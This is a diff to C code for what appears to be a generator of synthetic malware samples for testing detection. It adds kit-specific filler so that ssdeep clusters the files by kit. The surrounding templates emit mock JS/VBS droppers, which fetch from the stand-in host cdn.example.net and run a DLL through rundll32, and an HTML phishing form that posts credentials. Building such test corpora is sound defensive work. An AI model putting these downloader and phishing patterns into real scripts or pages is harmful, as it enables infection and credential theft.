@@ -80,7 +80,20 @@ static void make_lnk(struct mgen_rng *r, struct mgen_buf *b)
     random_bytes(r, b, 64 + mgen_below(r, 200));
 }
 
-static void make_script(struct mgen_rng *r, struct mgen_buf *b, bool vbs)
+/* A kit's fixed filler: ~900 letters in comment lines, the same for every
+ * file of one kit and different between kits, so ssdeep groups files by
+ * the kit that made them (as real builders do), not all scripts together. */
+static void kit_filler(struct mgen_buf *b, unsigned kit, const char *open, const char *close)
+{
+    struct mgen_rng k = {0x51ED270B00000000ULL + kit * 0x9E3779B97F4A7C15ULL + 1};
+    for (int line = 0; line < 15; line++) {
+        char word[61];
+        mgen_letters(&k, word, 60, line % 2);
+        mgb_printf(b, "%s%s%s\r\n", open, word, close);
+    }
+}
+
+static void make_script(struct mgen_rng *r, struct mgen_buf *b, bool vbs, unsigned kit)
 {
     char tok[25];
     mgen_letters(r, tok, 24, false);
@@ -96,6 +109,7 @@ static void make_script(struct mgen_rng *r, struct mgen_buf *b, bool vbs)
                       "function fetch(u) { x.open(\"GET\", u, false); x.send(); return x.responseBody; }\r\n"
                       "fetch(\"https://cdn.example.net/%s\");\r\n"
                       "sh.Run(\"rundll32 %%TEMP%%\\\\%s.dll,DllRegisterServer\", 0);\r\n", tok, tok);
+    kit_filler(b, kit, vbs ? "' " : "// ", "");
 }
 
 static void make_pdf(struct mgen_rng *r, struct mgen_buf *b)
@@ -108,7 +122,7 @@ static void make_pdf(struct mgen_rng *r, struct mgen_buf *b)
                  "trailer\n<< /Root 1 0 R >>\n%%%%EOF\n", tok);
 }
 
-static void make_html(struct mgen_rng *r, struct mgen_buf *b)
+static void make_html(struct mgen_rng *r, struct mgen_buf *b, unsigned kit)
 {
     char tok[17];
     mgen_letters(r, tok, 16, false);
@@ -116,6 +130,7 @@ static void make_html(struct mgen_rng *r, struct mgen_buf *b)
                  "<body><form action=\"https://login.example.org/%s\" method=\"post\">"
                  "<input type=\"email\" name=\"u\"><input type=\"password\" name=\"p\"></form></body></html>\n",
                  tok);
+    kit_filler(b, kit, "<!-- ", " -->");
 }
 
 static int read_file(const char *path, struct mgen_buf *out, struct kn_err *err)
@@ -237,16 +252,16 @@ static int make_ooxml(struct mgen_rng *r, bool excel, const char *work_dir, stru
     return rc;
 }
 
-int mgen_payload(enum kn_file_type t, struct mgen_rng *r, const char *work_dir, struct mgen_buf *out,
-                struct kn_err *err)
+int mgen_payload(enum kn_file_type t, unsigned kit, struct mgen_rng *r, const char *work_dir,
+                 struct mgen_buf *out, struct kn_err *err)
 {
     switch (t) {
     case KN_FT_PE: make_pe(r, out); return 0;
     case KN_FT_LNK: make_lnk(r, out); return 0;
-    case KN_FT_JS: make_script(r, out, false); return 0;
-    case KN_FT_VBS: make_script(r, out, true); return 0;
+    case KN_FT_JS: make_script(r, out, false, kit); return 0;
+    case KN_FT_VBS: make_script(r, out, true, kit); return 0;
     case KN_FT_PDF: make_pdf(r, out); return 0;
-    case KN_FT_HTML: make_html(r, out); return 0;
+    case KN_FT_HTML: make_html(r, out, kit); return 0;
     case KN_FT_DOCM: return make_ooxml(r, false, work_dir, out, err);
     case KN_FT_XLSM: return make_ooxml(r, true, work_dir, out, err);
     default:
